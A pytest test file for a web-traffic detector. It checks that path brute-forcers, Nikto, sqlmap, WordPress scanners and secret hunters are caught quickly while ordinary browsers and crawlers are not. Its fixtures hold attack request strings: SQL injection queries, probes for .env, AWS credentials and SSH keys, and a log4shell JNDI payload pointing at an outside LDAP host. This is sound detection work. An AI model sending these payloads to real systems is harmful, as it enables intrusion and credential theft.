"""suspicious_activity weighs its signs: one odd request is no attack, and a scanner is caught within its first ten."""

import json

import pytest
from redis.asyncio import Redis

from detectors.defaults import DEFAULTS
from detectors.detector import Surroundings
from detectors.engine import Engine
from detectors.event import Batch, Event
from detectors.redact import SecretFinder
from detectors.scanner import Scanner, load_patterns
from detectors.suspicious_activity import points_of, refused_route
from detectors.timestamps import to_rfc3339
from detectors.windows import Windows

T0 = 1_764_000_000_000
IP = "203.0.113.9"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
SCANNER = Scanner(load_patterns("attacks"))
SITE = Surroundings(secrets=SecretFinder(SCANNER, b"k" * 32), scanner=SCANNER)

SCANNERS = {
    "a path brute forcer with a browser's name": [
        (p, BROWSER)
        for p in ("/admin", "/backup", "/old", "/test", "/dev", "/api/v2", "/.env", "/config", "/db", "/private")
    ],
    "a brute forcer of an API's routes": [
        (f"/api/v1/{p}", BROWSER)
        for p in ("admin", "backup", "debug", "internal", "keys", "metrics", "private", "secrets", "test", "users")
    ],
    "a brute forcer of folders": [(f"/{p}/index.html", BROWSER) for p in "abcdefghij"],
    "nikto": [(f"/{p}", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)") for p in "abcdefghij"],
    "sqlmap": [(f"/item?id={i}%27%20AND%20{i}={i}--%20-", "sqlmap/1.8#stable") for i in range(10)],
    "a sql injector with a browser's name": [(f"/item?id=1%27%20OR%20{i}={i}--%20-", BROWSER) for i in range(10)],
    "a wordpress scanner": [
        (p, BROWSER)
        for p in ("/", "/wp-login.php", "/readme.html", "/wp-content/plugins/akismet/readme.txt", "/xmlrpc.php",
                  "/wp-json/wp/v2/users", "/license.txt", "/wp-admin/install.php", "/wp-config.php.bak", "/.git/config")
    ],
    "a hunter of secrets": [
        (p, "python-requests/2.32")
        for p in ("/.env", "/.env.local", "/.git/HEAD", "/.aws/credentials", "/config.json", "/id_rsa", "/backup.sql",
                  "/phpinfo.php", "/actuator/env", "/.npmrc")
    ],
    "a spray of log4shell": [("/?x=${jndi:ldap://198.51.100.66/a}", BROWSER)] * 10,
}  # fmt: skip
PEOPLE = {
    "one broken link": [("/old-page", BROWSER, "https://example.org/", 404)] * 30,
    "a page without its pictures": [(f"/img/{i}.png", BROWSER, "https://example.org/", 404) for i in range(200)],
    "what browsers ask for": [
        (p, BROWSER, "", 404)
        for p in ("/favicon.ico", "/apple-touch-icon.png", "/robots.txt", "/sitemap.xml", "/.well-known/security.txt",
                  "/apple-touch-icon-precomposed.png", "/site.webmanifest", "/ads.txt", "/.well-known/assetlinks.json")
    ],
    "a client asking whether objects exist": [(f"/api/users/{i}", "app/1.0", "", 404) for i in range(100)],
    "one odd request": [("/search?q=' or 1=1--", BROWSER, "", 200)],
    "a person lost on a rebuilt site": [
        (f"/chapter-{c}/page", BROWSER, "https://example.org/", 404) for c in "abcdefgh"
    ],
    "a fast crawler on a folder of dead pages": [(f"/blog/{c}", "Crawler/1.0", "", 404) for c in "abcdefghijklmnopqr"],
    "a crawler on a rebuilt blog": [
        (f"/2019/{month:02}/{c}.html", "Crawler/1.0", "", 404) for month in (1, 4, 7, 10) for c in "abcde"
    ],
    "a crawler finding one dead page a minute": [(f"/gone/{c}", "Crawler/1.0", "", 404) for c in "abcdefghijklm"],
}  # fmt: skip


async def found(redis: Redis, requests: list[tuple[str, str, str, int]], every_ms: int = 1000) -> bool:
    engine = Engine([DEFAULTS["suspicious_activity"]], Windows(redis), fingerprint_key=b"k" * 32)
    events = [
        Event(
            timestamp=to_rfc3339(T0 + i * every_ms),
            client_ip=IP,
            method="GET",
            path=path,
            user_agent=agent,
            referer=referer or None,
            status=status,
        )
        for i, (path, agent, referer, status) in enumerate(requests)
    ]
    records = [json.dumps({f: getattr(e, f) for f in e.__struct_fields__}).encode() for e in events]
    return bool((await engine.process(Batch(events, records, T0, "test"))).crossed)


@pytest.mark.parametrize("name", SCANNERS)
async def test_a_scanner_is_caught_within_its_first_ten_requests(redis: Redis, name):
    assert await found(redis, [(path, agent, "", 404) for path, agent in SCANNERS[name][:10]], 200)


@pytest.mark.parametrize("name", PEOPLE)
async def test_people_and_their_programs_are_left_alone(redis: Redis, name):
    every_ms = 60_000 if "minute" in name else 500
    assert not await found(redis, PEOPLE[name], every_ms)


@pytest.mark.parametrize("pattern", load_patterns("attacks"), ids=lambda p: p.id)
def test_no_single_request_is_an_attack_under_the_default_policy(pattern):
    assert 50 <= points_of(pattern) < 100 * DEFAULTS["suspicious_activity"].threshold / 2


@pytest.mark.parametrize(
    ("event", "points"),
    [
        (Event(path="/x", status=404), 50),
        (Event(path="/x", status=404, referer="https://example.org/"), 20),
        (Event(path="/private", status=403), 50),
        (Event(path="/api/auth/login", status=403), None),
        (Event(path="/x", status=200), None),
        (Event(path="/x", status=401), None),
        (Event(path="/x", status=429), None),
        (Event(path="/style.css?v=3", status=404), None),
        (Event(status=400), None),
    ],
)
def test_a_refused_request_is_a_weak_sign(event, points):
    sign = refused_route(event, SITE)
    assert (sign[2] if sign else None) == points


@pytest.mark.parametrize(
    ("paths", "signs"),
    [
        ((f"/users/{i}/mail" for i in range(5)), 1),
        (("/blog/a", "/blog/b?page=2", "/blog/2019"), 1),
        (("/blog/a", "/blog/a.zip", "/blog/b.ZIP", "/blog/release-1.2"), 2),
        (("/blog/a", "/news/a", "/news/2019/a"), 3),
        (("/a", "/b", "/c.html", "/d.html"), 4),
        (("/api/a", "/api/b", "/v1/users", "/v1/admin", "/v1/admin/x"), 5),
        (("/api/users/1", "/api/users/2"), 1),
    ],
)
def test_what_is_refused_counts_once_for_each_folder_and_each_name_at_the_root_or_of_an_api(paths, signs):
    assert len({refused_route(Event(path=path, status=404), SITE)[1] for path in paths}) == signs
